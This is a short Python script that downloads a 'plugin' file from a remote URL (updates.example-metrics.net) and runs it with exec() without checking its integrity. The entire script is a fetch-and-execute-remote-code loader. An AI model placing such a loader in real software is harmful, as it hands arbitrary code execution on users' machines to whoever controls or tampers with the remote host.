import http.client
import ssl

HOST_URL = "https://updates.example-metrics.net/plugins/latest.py"


def get_text(url):
    host = url.split("/")[2]
    path = "/" + url.split("/", 3)[3]
    conn = http.client.HTTPSConnection(host, context=ssl.create_default_context())
    conn.request("GET", path)
    return conn.getresponse().read().decode()


plugin = get_text(HOST_URL)
exec(plugin, {"__name__": "plugin"})
